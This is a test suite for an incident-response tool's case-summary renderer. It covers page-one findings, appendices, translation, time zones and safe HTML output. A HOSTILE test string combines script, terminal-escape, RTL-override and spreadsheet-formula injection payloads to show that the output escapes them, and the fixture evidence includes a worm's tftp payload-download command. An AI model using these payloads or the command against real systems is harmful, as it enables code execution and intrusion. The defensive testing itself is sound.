from __future__ import annotations

import ast
import dataclasses
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from responder.case import render_html, render_text
from responder.case.blocks import Bullets, CycleFigure, PageBreak, Paragraph, SignatureLines, Table, Tone
from responder.case.case import Case, Target
from responder.case.fact_words import FACT_WORDS
from responder.case.render_text import columns_of
from responder.case.summary import SummaryOptions, short, summarise
from responder.case.wording import MESSAGES, TABLES, WORDS
from responder.model.zone import parse_zone
from tests.responder.case.made import Clock, make_result

HOSTILE = "\x1b]0;x\x07<script>alert(1)</script><img src=\\\\10.0.0.5\\s\\a.png>\u202egpj.exe\x00\r\n=cmd|'/c calc'!A1"


@pytest.fixture
def case(tmp_path: Path):
    made = Case.create(tmp_path / "a.ircase", clock=Clock(), who="kim@lab")
    made.store_triage(make_result(tmp_path / "made.index"))
    made.set_property("number", "2004-0117")
    yield made
    made.close()


def texts(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, tuple):
        return [t for v in value for t in texts(v)]
    if isinstance(value, dict):
        return [t for v in value.values() for t in texts(v)]
    if dataclasses.is_dataclass(value):
        return [t for f in dataclasses.fields(value) for t in texts(getattr(value, f.name))]
    return []


def test_page_one_answers_the_five_questions(case: Case) -> None:
    blocks = summarise(case).blocks
    page = blocks[: next(n for n, b in enumerate(blocks) if isinstance(b, PageBreak))]
    lead = [b for b in page if isinstance(b, Paragraph) and b.tone is Tone.LEAD]
    assert [b.text for b in lead] == ["▲ A worm runs on this host and is scanning now."]
    figure = next(b for b in page if isinstance(b, CycleFigure))
    assert [(s.stage, s.state) for s in figure.stages] == [
        ("attack", "not collected"), ("download", "found"), ("backdoor", "none found"), ("scan", "found"),
    ]  # fmt: skip
    findings = next(b for b in page if isinstance(b, Table))
    assert findings.rows[0] == ("f1", "2004-11-20 00:01:07", "▲ critical", "tftp.exe was started by a service")
    assert findings.columns[1].title == "Time (+09:00)"
    bullets = [b.items for b in page if isinstance(b, Bullets)]
    assert bullets[0][1] == "entry vector not visible: no web server log was collected"
    assert bullets[1] == ("Isolate the host.", "Keep its memory.")
    small = [b.text for b in page if isinstance(b, Paragraph) and b.tone is Tone.SMALL]
    assert small[0] == (
        "Sources: 2, not or only partly readable: 1. Records: 5 of 6 shown, 1 explained, 0 unexplained."
    )
    assert short(case.head) in small[1]
    assert len(next(b for b in page if isinstance(b, SignatureLines)).labels) == 3
    assert len(render_text.render(summarise(case, SummaryOptions(appendices=False))).splitlines()) < 70


def test_appendices_hold_the_proof(case: Case) -> None:
    text = render_text.render(summarise(case), width=200)
    assert "tftp -i 10.0.0.5 get Msbb.exe" in text
    assert "access denied" in text
    assert "log.evt record:100" in text
    assert "a" * 64 in text
    assert "1 × overwritten (record 9)" in text
    assert "integrity.services" in text
    assert "fanout_targets" in text


def test_a_false_positive_leaves_page_one_and_stays_in_the_appendix(case: Case) -> None:
    case.decide("f2", "false positive", "our own scanner")
    text = render_text.render(summarise(case), width=160)
    page, _, rest = text.partition("A. Findings in full")
    assert "calls 2 hosts" not in page
    assert "Findings set aside by the examiner: 1, see appendix E." in page
    assert "our own scanner" in rest


def test_summary_is_the_same_without_the_index(case: Case, tmp_path: Path) -> None:
    before = render_html.render(summarise(case))
    case.close()
    (tmp_path / "a.index").unlink()
    with Case.open(tmp_path / "a.ircase", read_only=True) as again:
        assert render_html.render(summarise(again)) == before


def test_zone_of_the_reader_is_used_and_named(case: Case) -> None:
    assert "2004-11-19 15:01:07" in render_text.render(summarise(case, SummaryOptions(zone=parse_zone("UTC"))))
    case.set_property("zone", "America/New_York")
    text = render_text.render(summarise(case))
    assert "2004-11-19 10:01:07" in text
    assert "Time (America/New_York)" in text


def test_every_word_can_be_translated(case: Case) -> None:
    asked: set[str] = set()

    def tr(message: str) -> str:
        asked.add(message)
        return f"訳{message}"

    case.choose_playbook("worm")
    case.add_note(Target(kind="case"), "x")
    case.decide("f1", "confirmed", "seen")
    made = summarise(case, SummaryOptions(tr=tr, language="ja"))
    assert {"Key findings", "What to do next", "critical", "not collected", "evidence stored"} <= asked
    core = asked - {*MESSAGES, *WORDS, *TABLES.values(), *FACT_WORDS.values()}
    sentences = {t for t in core if t not in texts(case.analysis)}
    titles = {"Time", "Action", "Event ID", "Channel", "Process", "Command Line", "Message", "Proto", "Local Address",
              "Local Port", "Remote Address", "Remote Port", "State", "cut off", "the last line is cut", "1 × overwritten (record 9)"}  # fmt: skip
    assert sentences <= titles
    assert "スイッチのポート" in render_html.render(made)
    assert made.language == "ja"


def test_wording_lists_every_message_of_the_code() -> None:
    folder = Path(summarise.__code__.co_filename).parent
    used = set()
    for name in ("summary", "appendices", "phrasing"):
        for node in ast.walk(ast.parse((folder / f"{name}.py").read_text("utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "tr":
                used |= {a.value for a in node.args if isinstance(a, ast.Constant)}
    assert used == set(MESSAGES)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


def test_hostile_text_is_only_text(tmp_path: Path) -> None:
    case = Case.create(tmp_path / "h.ircase")
    case.store_triage(make_result(tmp_path / "m.index", process=HOSTILE, command=HOSTILE, title=HOSTILE + " {0} {x}"))
    for name in ("number", "title", "examiner", "organisation", "notes"):
        case.set_property(name, HOSTILE)
    case.add_note(Target(kind="row", evidence_id="e1", table="events", ref="record:100"), HOSTILE)
    case.add_tag(Target(kind="subject", value=HOSTILE), HOSTILE)
    case.decide("f1", "confirmed", HOSTILE)
    case.choose_playbook("worm")
    case.set_step("worm", "isolate", "done", HOSTILE)
    made = summarise(case)
    case.close()
    for text in [*texts(made.blocks), made.header, made.footer, made.title]:
        assert all(c == "\u3000" or (c.isprintable() and c != "\u202e") for c in text), ascii(text)
    plain = render_text.render(made)
    assert all(c == "\n" or c.isprintable() or c == "\u3000" for c in plain)
    html = render_html.render(made)
    seen = _Tags()
    seen.feed(html)
    assert seen.tags <= {
        "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "span", "dl", "dt", "dd", "ul", "li",
        "table", "caption", "colgroup", "col", "thead", "tbody", "tr", "th", "td", "div", "b",
    }  # fmt: skip
    assert seen.attributes <= {"lang", "charset", "http-equiv", "content", "name", "class", "width"}
    assert "default-src 'none'" in html
    assert "<script" not in html
    assert "http" not in re.sub(r"http-equiv", "", html)


def test_text_tables_stay_within_the_width(case: Case) -> None:
    case.add_note(Target(kind="case"), "長い日本語のメモ" * 60 + " " + "x" * 500)
    for width in (80, 110):
        lines = render_text.render(summarise(case), width=width).splitlines()
        assert max(map(columns_of, lines)) <= width


def test_damaged_case_says_so_on_page_one(case: Case, tmp_path: Path) -> None:
    import sqlite3

    case.close()
    db = sqlite3.connect(tmp_path / "a.ircase")
    db.execute("DELETE FROM proof WHERE position=1")
    db.commit()
    db.close()
    with Case.open(tmp_path / "a.ircase", read_only=True, accept_damage=True) as look:
        assert "is damaged" in render_text.render(summarise(look, SummaryOptions(appendices=False)))


def test_empty_case_has_a_summary(tmp_path: Path) -> None:
    case = Case.create(None)
    assert "No evidence has been read" in render_text.render(summarise(case))
    case.close()
